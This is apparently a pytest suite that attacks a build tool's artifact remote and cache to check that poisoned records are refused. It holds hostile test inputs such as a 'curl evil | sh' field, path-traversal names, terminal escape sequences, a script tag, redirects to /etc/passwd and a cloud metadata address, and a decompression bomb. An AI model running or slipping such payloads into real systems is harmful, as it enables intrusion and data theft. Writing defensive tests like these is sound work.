"""Attacks by who can write to a remote, or sits between it and us: what is read there is data, and never in the way later."""

from __future__ import annotations

import gzip
import http.server
import json
import os
import shutil
import subprocess
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from material.attack import attack
from material.code_memory import know_code

from domainlm.builder.build import Outcome, build
from domainlm.contract import Resources, StageError
from domainlm.store import remote_files
from domainlm.store.canonical import sha256_of
from domainlm.store.local import Store
from domainlm.store.manifest import Entry
from domainlm.store.remote import RemoteError, action_name, object_name, open_remote
from domainlm.store.remote_files import MAX_RECORD_BYTES
from domainlm.store.signatures import SIGNING_VARIABLE, TRUSTED_VARIABLE
from domainlm.upkeep.doctor import examine
from domainlm.upkeep.push_pull import push
from domainlm.upkeep.verify import verify
from domainlm.workflow.prepare import prepare

CONFIG = """\
domain: tiny
sources:
  x: {role: corpus, local: corpus}
  m: {role: base_model, local: model}
raw_corpus: {shards: 1}
corpus_split: {replay_share: 0.0}
"""
RAW, DOCUMENTS = "artifacts/tiny/raw_corpus/0000", "artifacts/tiny/documents/0000"
Poison = Callable[[dict[str, Any]], object]


@dataclass
class Project:
    """A project with a folder remote beside it, and what its builds have said."""

    path: Path
    remote: Path
    said: list[str] = field(default_factory=list)

    @property
    def store(self) -> Store:
        return Store(self.path / ".dvc/domainlm-store")

    def build(self, artifact: str = "raw_corpus", is_wanted: bool = True, shard: str | None = "0000") -> Outcome:
        stamp = prepare({}, self.path, targets=["eval_report"]).stamps[artifact, shard]
        return build(self.path, stamp, Resources(log=self.said.append), is_wanted)

    def push(self) -> Any:
        return push(self.path, "tiny", [], self.said.append)

    def key(self, folder: str = RAW) -> str:
        return str(json.loads((self.path / folder / "action.json").read_bytes())["key"])

    def rewrite(self, key: str, change: Poison) -> Path:
        path = self.remote / action_name(key)
        row = json.loads(path.read_bytes())
        data = change(row)
        path.write_text(data if isinstance(data, str) else json.dumps(row))
        return path

    def forget(self, folder: str, key: str) -> None:
        """As in another clone that shares the store: the artifact and its record are gone, the objects are here."""
        shutil.rmtree(self.path / folder)
        self.store.actions.path(key).unlink(missing_ok=True)

    def objects(self) -> set[str]:
        return {path.name for path in (self.store.root / "objects").glob("*/*")}

    def quarantine(self) -> list[str]:
        return sorted(path.name for path in (self.store.root / "quarantine").glob("*"))


def write_project(root: Path, repository: Path) -> Path:
    files = {"corpus/a.txt": "a text", "model/config.json": "{}", "config/config.yaml": CONFIG}
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    (root / "envs").symlink_to(repository / "envs")
    return root


@pytest.fixture
def make(tmp_path: Path, repository: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[str], Project]:
    """make(name): a project with a store of its own; all share one remote."""

    def made(name: str) -> Project:
        path = write_project(tmp_path / name, repository)
        know_code(path)
        return Project(path, tmp_path / "remote")

    (tmp_path / "remote").mkdir(mode=0o700)
    monkeypatch.setenv("DOMAINLM_REMOTE", str(tmp_path / "remote"))
    for name in (SIGNING_VARIABLE, TRUSTED_VARIABLE):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr(remote_files, "RETRY_SECONDS", ())
    return made


@pytest.fixture
def full(make: Callable[[str], Project]) -> Project:
    """A project whose first artifact was built and pushed."""
    project = make("full")
    project.build()
    project.push()
    return project


def first(row: dict[str, Any]) -> dict[str, Any]:
    entry: dict[str, Any] = max(row["manifest"]["files"], key=lambda entry: entry["size"])
    return entry


def extra(**changes: Any) -> Poison:
    return lambda row: row["manifest"]["files"].append({**first(row), **changes})


def changed(**changes: Any) -> Poison:
    return lambda row: first(row).update(changes)


MANIFESTS: dict[str, Poison] = {
    "a larger size": lambda row: first(row).update(size=first(row)["size"] + 1),
    "a smaller size": lambda row: first(row).update(size=first(row)["size"] - 1),
    "a size that is true": changed(size=True),
    "a size of half a byte": changed(size=0.5),
    "an endless size": lambda row: json.dumps(row).replace('"size": ', '"size": 1e999, "was": '),
    "a file and a folder": lambda row: extra(path=f"{first(row)['path']}/x")(row),
    "a name of 300 characters": extra(path="x" * 300),
    "a path of 2,000 characters": extra(path="/".join(["x" * 99] * 20)),
    "a path of 100 folders": extra(path="/".join(["x"] * 100)),
    "half a surrogate": extra(path="\ud800"),
    "a record's own name": extra(path="./manifest.json"),
    "a shard's record": extra(path="0000/action.json"),
    "a way out": extra(path="../../outside"),
    "a way in a name": extra(path="..\\outside"),
    "a line feed": extra(path="a\nb"),
    "an escape sequence": extra(path="\x1b[2J"),
    "text from right to left": extra(path="a\u202etxt.exe"),
    "two names but for case": lambda row: extra(path=first(row)["path"].upper())(row),
    "two names but for an accent": lambda row: [extra(path=name)(row) for name in ("\u00e9", "e\u0301")],
    "a digest that is a path": changed(sha256="../" * 20 + "etcp"),
    "a digest in capitals": lambda row: first(row).update(sha256=first(row)["sha256"].upper()),
    "a digest of digits of another script": changed(sha256="\u0660" * 64),
    "files that are a number": lambda row: row["manifest"].update(files=3),
    "no manifest": lambda row: row.pop("manifest"),
}


@attack(
    "remote",
    "cache poisoning",
    "a record whose manifest cannot be right: false or no sizes, a path that is file and folder, leaves the folder, is too long "
    "or no name, two names that are one where case is ignored",
    "refused and named in one line, then built; sound objects stay, and no later run meets it, with the remote or without",
)
@pytest.mark.parametrize("kind", MANIFESTS)
def test_a_poisoned_manifest_poisons_nothing(full: Project, kind: str, monkeypatch: pytest.MonkeyPatch) -> None:
    key, before = full.key(), full.objects()
    full.rewrite(key, MANIFESTS[kind])
    full.forget(RAW, key)
    assert full.build().outcome == "built"
    assert len([line for line in full.said if action_name(key) in line]) == 1
    assert (full.objects(), full.quarantine()) == (before, [])
    assert full.build().outcome == "up_to_date"
    monkeypatch.setenv("DOMAINLM_REMOTE", "none")
    shutil.rmtree(full.path / RAW)
    assert full.build().outcome == "restored"
    assert verify(full.path, "tiny", None, 1, True, lambda *_: None).is_sound
    # and whoever pushes mends the remote
    monkeypatch.setenv("DOMAINLM_REMOTE", str(full.remote))
    assert full.push().sent.pushed == [RAW]
    remote = open_remote(full.path)
    assert remote is not None
    assert remote.action(key) is not None


@attack(
    "remote",
    "cache poisoning",
    "a record that names bytes which are nowhere",
    "built as if the remote had no record; none of it is recorded here, and the next push replaces it",
)
def test_bytes_that_are_nowhere(full: Project, make: Callable[[str], Project]) -> None:
    key, clone = full.key(), make("clone")
    full.rewrite(key, changed(sha256="ab" * 32))
    assert clone.build().outcome == "built"
    recorded = clone.store.actions.find(key)
    assert recorded is not None
    assert recorded.origin is None
    assert recorded.manifest.entries == full.store.actions.get(key)[0].entries  # type: ignore[index]
    assert clone.store.actions.alternatives(key) == []
    assert full.push().sent.pushed == [RAW]


@attack(
    "remote",
    "cache poisoning",
    "a record with false sizes, of an input whose bytes stay in the remote until a stage reads them",
    "the store has no record of it; the stage stops once and says so, and the same command builds the input, without the remote too",
)
@pytest.mark.parametrize("later", ["with the remote", "without"])
def test_a_false_record_of_a_hollow_input(
    full: Project, make: Callable[[str], Project], monkeypatch: pytest.MonkeyPatch, later: str
) -> None:
    clone, key = make("clone"), full.key()
    full.rewrite(key, MANIFESTS["a larger size"])
    assert clone.build(is_wanted=False).outcome == "fetched"
    assert clone.store.actions.find(key) is None
    with pytest.raises(StageError, match="run the same command again"):
        clone.build("documents")
    if later == "without":
        monkeypatch.setenv("DOMAINLM_REMOTE", "none")
    assert clone.build(is_wanted=False).outcome == "built"
    assert clone.build("documents").outcome == "built"
    assert clone.quarantine() == []


def nested(depth: int) -> list[Any]:
    found: list[Any] = []
    for _ in range(depth):
        found = [found]
    return found


RECORDS: dict[str, Poison] = {
    "of another key": lambda row: row["action_record"].update(key="0" * 64),
    "of another action": lambda row: row["action_record"]["action"].update(code="other"),
    "with further fields": lambda row: row["action_record"].update(run="curl evil | sh"),
    "nested 100,000 deep": lambda row: "[" * 100_000,
    "nested 500 deep": lambda row: row["action_record"]["action"]["config"].update(a=nested(500)),
    "with a signature of a megabyte": lambda row: row.update(signature="x" * 1_000_000),
    "with a list for a signature": lambda row: row.update(signature=["x"]),
    "with facts nested deep": lambda row: row["action_record"].update(built={"a": [[[[[]]]]]}),
    "infinity": lambda row: json.dumps(row).replace('"built": {', '"built": {"a": 1e999, '),
    "not a number": lambda row: json.dumps(row).replace('"built": {', '"built": {"a": NaN, '),
    "a number of 5,000 digits": lambda row: json.dumps(row).replace(
        '"built": {', '"built": {"a": ' + "9" * 5000 + ", "
    ),
    "nothing": lambda row: "null",
    "a list": lambda row: "[]",
}


@attack(
    "remote",
    "record substitution",
    "a sound record under another key's name, one whose action was edited, one with further fields or nested without end",
    "counts as none: a record must give its own name, and hold nothing but what a record holds",
)
@pytest.mark.parametrize("kind", RECORDS)
def test_a_record_that_is_not_of_its_name(full: Project, kind: str) -> None:
    key = full.key()
    full.rewrite(key, RECORDS[kind])
    full.forget(RAW, key)
    assert full.build().outcome == "built"
    assert len([line for line in full.said if action_name(key) in line]) == 1
    assert max(len(line) for line in full.said) < 1000


@attack(
    "store",
    "record substitution",
    "a record of the local action cache moved or copied to another key's name",
    "counts as none, goes to quarantine and is named; the artifact is built",
)
def test_a_local_record_under_another_name(full: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DOMAINLM_REMOTE", "none")
    full.build("documents")
    raw, documents = full.key(), full.key(DOCUMENTS)
    actions = full.store.actions
    shutil.copy(actions.path(raw), actions.path(documents))
    shutil.rmtree(full.path / DOCUMENTS)
    assert full.build("documents").outcome == "built"
    assert [name.split(".")[0] for name in full.quarantine()] == [documents]
    assert any(documents in line and raw in line and "does not count" in line for line in full.said)
    shutil.rmtree(full.path / DOCUMENTS)
    assert full.build("documents").outcome == "restored"


@attack(
    "store",
    "cache poisoning",
    "a record in the local action cache that states sizes which its objects do not have",
    "it is put aside; the objects stay, as only bytes that do not give their digest are damage",
)
def test_a_local_record_with_false_sizes(full: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DOMAINLM_REMOTE", "none")
    key, before = full.key(), full.objects()
    path = full.store.actions.path(key)
    row = json.loads(path.read_bytes())
    first(row)["size"] += 1
    path.write_text(json.dumps(row))
    shutil.rmtree(full.path / RAW)
    assert full.build().outcome == "built"
    assert full.objects() == before
    assert [name.split(".")[0] for name in full.quarantine()] == [key]
    shutil.rmtree(full.path / RAW)
    assert full.build().outcome == "restored"


@attack(
    "remote",
    "record substitution",
    "a gathered artifact's record that adds a shard, leaves one out or changes one",
    "refused: its shards must be those whose digests its action names",
)
@pytest.mark.parametrize("kind", ["more", "fewer", "other"])
def test_a_gather_of_other_shards(full: Project, kind: str) -> None:
    full.build(shard=None)
    full.push()
    folder = "artifacts/tiny/raw_corpus"
    key = full.key(folder)

    def poison(row: dict[str, Any]) -> None:
        files = row["manifest"]["files"]
        inside = [entry for entry in files if entry["path"].startswith("0000/")]
        if kind == "more":
            files.append({**inside[0], "path": "0001/inventory.jsonl"})
        elif kind == "fewer":
            files.remove(inside[0])
        else:
            inside[0].update(sha256=inside[1]["sha256"], size=inside[1]["size"])

    full.rewrite(key, poison)
    (full.path / folder / "manifest.json").unlink()
    full.store.actions.path(key).unlink()
    assert full.build(shard=None).outcome == "built"
    assert any("shard" in line and action_name(key) in line for line in full.said)


@attack(
    "remote",
    "terminal escape",
    "a record whose facts of where it was built hold escape sequences, tags, links or megabytes",
    "refused: such facts are short plain text, so that every command and page may show them",
)
@pytest.mark.parametrize(
    "built",
    [
        {"machine": "\x1b]0;owned\x07"},
        {"machine": "<script>alert(1)</script>"},
        {"machine": "[link=https://evil]x[/link]"},
        {"machine": "a\nb"},
        {"\x1b[2J": 1},
        {"machine": "x" * 100_000},
        {str(number): 1 for number in range(10_000)},
        {"machine": {"a": 1}},
        ["x86_64"],
    ],
    ids=str,
)
def test_facts_that_are_more_than_text(full: Project, built: Any) -> None:
    key = full.key()
    full.rewrite(key, lambda row: row["action_record"].update(built=built))
    remote = open_remote(full.path)
    assert remote is not None
    said: list[str] = []
    assert remote.action(key, said.append) is None
    assert len(said) == 1
    assert said[0].isprintable()


@contextmanager
def server(answer: Callable[[http.server.BaseHTTPRequestHandler], None]) -> Iterator[tuple[str, list[str]]]:
    """A web server that answers as it likes; gives its address and the paths that were asked for."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            try:
                answer(self)
            except (BrokenPipeError, ConnectionResetError):
                return

        do_HEAD = do_GET

        def log_message(self, format: str, *arguments: object) -> None:
            return None

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as served:
        thread = threading.Thread(target=served.serve_forever, daemon=True)
        thread.start()
        try:
            yield f"http://127.0.0.1:{served.server_address[1]}", asked
        finally:
            served.shutdown()
            thread.join()


def at(address: str) -> Any:
    remote = open_remote(Path("/nonexistent"), {"DOMAINLM_REMOTE": address})
    assert remote is not None
    return remote


@attack(
    "remote",
    "endless download",
    "an object or a record that never ends, or is longer than its entry says",
    "the download stops at the first byte too many, and nothing of it stays",
)
@pytest.mark.parametrize("is_said", [True, False], ids=["stated length", "no length"])
def test_an_answer_without_end(is_said: bool, tmp_path: Path) -> None:
    sent: list[int] = []

    def endless(handler: http.server.BaseHTTPRequestHandler) -> None:
        handler.send_response(200)
        if is_said:
            handler.send_header("Content-Length", str(1 << 40))
        handler.end_headers()
        for _ in range(400):
            sent.append(handler.wfile.write(b"x" * (1 << 20)))

    store, said = Store(tmp_path / "store"), []
    with server(endless) as (address, _):
        entry = Entry("a", sha256_of(b"x" * 10), 10)
        assert at(address).fetch([entry], store.objects, said.append) == 0
        assert "more than the 10 bytes" in said[0]
        assert list((store.root / "tmp").iterdir()) == []
        assert at(address).action("0" * 64, said.append) is None
        assert f"more than the {MAX_RECORD_BYTES} bytes" in said[1]
    # what fits between two machines until the line is cut
    assert sum(sent) < 300 << 20


@attack(
    "remote",
    "decompression bomb",
    "a web server that answers with packed bytes (Content-Encoding)",
    "asked for as they are and taken as they are: nothing is unpacked, and packed bytes have another digest",
)
def test_a_packed_answer_is_not_unpacked(tmp_path: Path) -> None:
    bomb = gzip.compress(bytes(50_000_000))
    asked_for: list[str] = []

    def packed(handler: http.server.BaseHTTPRequestHandler) -> None:
        asked_for.append(handler.headers.get("Accept-Encoding", ""))
        handler.send_response(200)
        handler.send_header("Content-Encoding", "gzip")
        handler.send_header("Content-Length", str(len(bomb)))
        handler.end_headers()
        handler.wfile.write(bomb)

    store, said = Store(tmp_path / "store"), []
    with server(packed) as (address, _):
        assert at(address).fetch([Entry("a", "0" * 64, 50_000_000)], store.objects, said.append) == 0
        assert at(address).action("0" * 64, said.append) is None
    assert set(asked_for) == {"identity"}
    assert len(said) == 2


@attack(
    "remote",
    "request forgery by redirect",
    "a web server that redirects to another host, another port of this machine, or a file",
    "the build stops and names the place; nothing is asked of it",
)
@pytest.mark.parametrize("target", ["other", "file:///etc/passwd", "//169.254.169.254/latest", "ftp://127.0.0.1/x"])
def test_a_redirect_leads_nowhere_else(target: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(remote_files, "RETRY_SECONDS", ())
    with server(lambda handler: handler.send_error(404)) as (other, asked):

        def redirect(handler: http.server.BaseHTTPRequestHandler) -> None:
            handler.send_response(302)
            handler.send_header("Location", f"{other}/secret" if target == "other" else target)
            handler.end_headers()

        with server(redirect) as (address, _), pytest.raises(RemoteError, match="it sends whoever asks to"):
            at(address).action("0" * 64)
    assert asked == []


def test_a_redirect_within_the_host_is_followed() -> None:
    def redirect(handler: http.server.BaseHTTPRequestHandler) -> None:
        if handler.path.startswith("/b"):
            handler.send_error(404)
            return
        handler.send_response(302)
        handler.send_header("Location", f"/b{handler.path}")
        handler.end_headers()

    with server(redirect) as (address, asked):
        assert at(address).action("0" * 64) is None
    assert [path[:2] for path in asked] == ["/a", "/b"]


@attack(
    "remote",
    "links and special files",
    "a folder remote in which a record is a link that leads out, a pipe, a device or a folder",
    "counts as none and is named; it is neither read nor waited for, and a push writes nothing through a link",
)
@pytest.mark.parametrize("kind", ["link out", "folder link out", "pipe", "device", "folder", "link to nothing"])
def test_a_folder_remote_of_links(full: Project, kind: str, tmp_path: Path) -> None:
    key = full.key()
    record = full.remote / action_name(key)
    outside = tmp_path / "outside"
    outside.mkdir()
    shutil.copy(record, outside / record.name)
    record.unlink()
    if kind == "link out":
        record.symlink_to(outside / record.name)
    elif kind == "folder link out":
        record.parent.rmdir()
        record.parent.symlink_to(outside)
    elif kind == "pipe":
        os.mkfifo(record)
    elif kind == "device":
        record.symlink_to("/dev/zero")
    elif kind == "folder":
        record.mkdir()
    else:
        record.symlink_to("/nonexistent/file")
    said: list[str] = []
    remote = at(str(full.remote))
    assert remote.action(key, said.append) is None
    assert action_name(key) in said[0]
    before = (outside / record.name).read_bytes()
    if kind in ("folder link out", "folder"):
        with pytest.raises(RemoteError):
            full.push()
    else:
        assert full.push().sent.pushed == [RAW]
        assert not record.is_symlink()
        assert remote.action(key) is not None
    assert [(path.name, path.read_bytes()) for path in outside.iterdir()] == [(record.name, before)]


@attack(
    "remote",
    "links and special files",
    "an object of a folder remote that is a link to a private file of the reader",
    "refused: nothing outside the remote's folder is read",
)
def test_an_object_that_is_a_link_out(full: Project, tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("private")
    digest = sha256_of(b"private")
    path = full.remote / object_name(digest)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(tmp_path / "secret")
    said: list[str] = []
    assert at(str(full.remote)).fetch([Entry("a", digest, 7)], full.store.objects, said.append) == 0
    assert "out of the remote" in said[0]
    assert not full.store.objects.path(digest).exists()


@attack(
    "remote",
    "open permissions",
    "a folder remote that every user of the machine can write to, or that is another user's",
    "said once per run and by doctor, which calls the first a problem, unless only signed records count",
)
def test_an_open_folder_is_named(full: Project, make: Callable[[str], Project], tmp_path: Path) -> None:
    def check() -> Any:
        return next(check for check in examine(full.path) if check.name == "remote")

    assert (check().is_ok, check().fix) == (True, "")
    clone = make("clone")
    clone.build()
    assert not [line for line in clone.said if "unsigned" in line]
    full.remote.chmod(0o777)
    assert not check().is_ok
    assert "everybody on this machine" in check().found
    other = make("other")
    stamp = prepare({}, other.path).stamps["raw_corpus", "0000"]
    for _ in range(2):
        make_again(other)
        build(other.path, stamp, Resources(log=other.said.append))
    assert len([line for line in other.said if "everybody on this machine" in line]) == 1
    full.remote.chmod(0o770)
    assert check().is_ok
    assert TRUSTED_VARIABLE in check().line()


@attack(
    "remote",
    "time of check, time of use",
    "a record that is replaced between its check and its use",
    "it is read once: what was checked is what is installed",
)
def test_a_record_is_read_once(full: Project, make: Callable[[str], Project], monkeypatch: pytest.MonkeyPatch) -> None:
    clone, key = make("clone"), full.key()
    original, asked = remote_files.RemoteFiles.read, []

    def replaced(self: Any, name: str) -> bytes | None:
        data = original(self, name)
        asked.append(name)
        full.rewrite(key, changed(sha256="ab" * 32))
        return data

    monkeypatch.setattr(remote_files.RemoteFiles, "read", replaced)
    assert clone.build().outcome == "fetched"
    assert asked == [action_name(key)]
    assert (clone.path / RAW / "manifest.json").read_bytes() == (full.path / RAW / "manifest.json").read_bytes()


@attack(
    "remote",
    "disk exhaustion",
    "a record whose sizes are more than any disk has",
    "the build stops before the first byte and names the room that is free; without the remote it goes on",
)
def test_more_than_fits(full: Project, make: Callable[[str], Project], monkeypatch: pytest.MonkeyPatch) -> None:
    clone = make("clone")
    full.rewrite(full.key(), changed(size=1 << 52))
    with pytest.raises(RemoteError, match="are free at the store"):
        clone.build()
    assert not clone.store.actions.path(full.key()).exists()
    monkeypatch.setenv("DOMAINLM_REMOTE", "none")
    assert clone.build().outcome == "built"


@attack(
    "workspace",
    "request forgery",
    "an action.json beside an input that asks for files to be fetched from an address of its choice",
    "what is fetched comes from this project's own configuration: the address is never asked",
)
def test_a_record_beside_an_input_fetches_nothing(full: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DOMAINLM_REMOTE", "none")
    path = full.path / RAW / "action.json"
    record = json.loads(path.read_bytes())
    with server(lambda handler: handler.send_error(404)) as (address, asked):
        row = {"source": "x", "url": f"{address}/latest/meta-data", "sha256": "0" * 64, "member": None, "kind": "url"}
        record["action"]["config"]["fetched"] = [row]
        path.chmod(0o644)
        path.write_text(json.dumps(record))
        assert full.build("documents").outcome == "built"
    assert asked == []


@pytest.fixture
def keys(tmp_path: Path) -> Callable[[str], Path]:
    """keys(name): path of a new private key."""

    def make(name: str) -> Path:
        command = ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(tmp_path / name)]
        subprocess.run(command, check=True)
        return tmp_path / name

    return make


@pytest.fixture
def trust(tmp_path: Path, keys: Callable[[str], Path], monkeypatch: pytest.MonkeyPatch) -> Callable[[], Path]:
    """trust(): from now on only what the returned key signed counts."""
    own = keys("own")

    def begin() -> Path:
        (tmp_path / "allowed_signers").write_text(f"team@example.org {own.with_suffix('.pub').read_text()}")
        monkeypatch.setenv(TRUSTED_VARIABLE, str(tmp_path / "allowed_signers"))
        return own

    return begin


@attack(
    "remote",
    "trust after the fact",
    "an unsigned record that was fetched before trust in keys was switched on",
    "checked again when it is used, in the workspace and in the store, also without the remote: built here",
)
@pytest.mark.parametrize("way", ["installed", "in the store", "without its record", "hollow"])
def test_what_was_fetched_before_is_checked_again(
    full: Project,
    make: Callable[[str], Project],
    trust: Callable[[], Path],
    monkeypatch: pytest.MonkeyPatch,
    way: str,
) -> None:
    clone, key = make("clone"), full.key()
    assert clone.build(is_wanted=way != "hollow").outcome == "fetched"
    trust()
    if way != "hollow":
        monkeypatch.setenv("DOMAINLM_REMOTE", "none")
    if way == "in the store":
        shutil.rmtree(clone.path / RAW)
        shutil.rmtree(clone.path / ".domainlm/fetched")
    elif way == "without its record":
        # a record that is made again from what is installed does not forget it
        clone.store.actions.path(key).unlink()
        monkeypatch.delenv(TRUSTED_VARIABLE)
        assert clone.build().outcome == "up_to_date"
        recorded = clone.store.actions.find(key)
        assert recorded is not None
        assert recorded.origin is not None
        trust()
    assert clone.build().outcome == "built"
    assert any("nobody signed it" in line for line in clone.said)
    # it is ours now
    assert clone.build().outcome == "up_to_date"
    shutil.rmtree(clone.path / RAW)
    assert clone.build().outcome == "restored"


@attack(
    "remote",
    "trust after the fact",
    "an input that was fetched unsigned, for a stage that is built once trust in keys is switched on",
    "the stage does not read it: it is named, and built here first",
)
def test_an_untrusted_input_is_not_read(
    full: Project, make: Callable[[str], Project], trust: Callable[[], Path]
) -> None:
    clone = make("clone")
    clone.build()
    trust()
    with pytest.raises(StageError, match="does not count: it came from"):
        clone.build("documents")
    assert clone.build().outcome == "built"
    assert clone.build("documents").outcome == "built"


@attack(
    "remote",
    "forged signature",
    "a record signed by a stranger, with another record's signature, or with none, where keys are trusted",
    "refused and named, then built; one that is signed by a trusted key is fetched and stays without being asked again",
)
def test_only_a_trusted_signature_of_exactly_this_counts(
    full: Project,
    make: Callable[[str], Project],
    trust: Callable[[], Path],
    keys: Callable[[str], Path],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    own, stranger = trust(), keys("stranger")
    full.build("documents")
    monkeypatch.setenv(SIGNING_VARIABLE, str(stranger))
    monkeypatch.delenv(TRUSTED_VARIABLE)
    full.push()
    trust()
    first_clone = make("first")
    assert first_clone.build().outcome == "built"
    # who signs with a trusted key and trusts keys replaces a stranger's signature
    monkeypatch.setenv(SIGNING_VARIABLE, str(own))
    full.push()
    second = make("second")
    assert [second.build().outcome, second.build("documents").outcome] == ["fetched", "fetched"]
    calls: list[object] = []
    monkeypatch.setattr("domainlm.builder.origins.trust_fault", lambda *arguments: calls.append(arguments))
    assert second.build().outcome == "up_to_date"
    assert second.build().outcome == "up_to_date"
    assert len(calls) == 1
    # the signature of another record
    signature = json.loads((full.remote / action_name(full.key(DOCUMENTS))).read_bytes())["signature"]
    full.rewrite(full.key(), lambda row: row.update(signature=signature))
    monkeypatch.undo()
    monkeypatch.setenv("DOMAINLM_REMOTE", str(full.remote))
    trust()
    assert make_again(first_clone).build().outcome == "built"


def make_again(clone: Project) -> Project:
    """The clone with an empty store and workspace."""
    for path in (clone.store.root, clone.path / "artifacts", clone.path / ".domainlm/fetched"):
        shutil.rmtree(path, ignore_errors=True)
    return clone


@attack(
    "remote",
    "laundering of signatures",
    "an unsigned record of a stranger, fetched by somebody who then pushes with a signing key",
    "a push signs what was built here alone",
)
def test_a_push_signs_nothing_of_others(
    full: Project, make: Callable[[str], Project], trust: Callable[[], Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    own = trust()
    monkeypatch.delenv(TRUSTED_VARIABLE)
    clone = make("clone")
    clone.build()
    clone.build("documents")
    monkeypatch.setenv(SIGNING_VARIABLE, str(own))
    clone.push()
    raw, documents = (
        json.loads((full.remote / action_name(clone.key(folder))).read_bytes()) for folder in (RAW, DOCUMENTS)
    )
    assert "signature" not in raw
    assert documents["signature"]
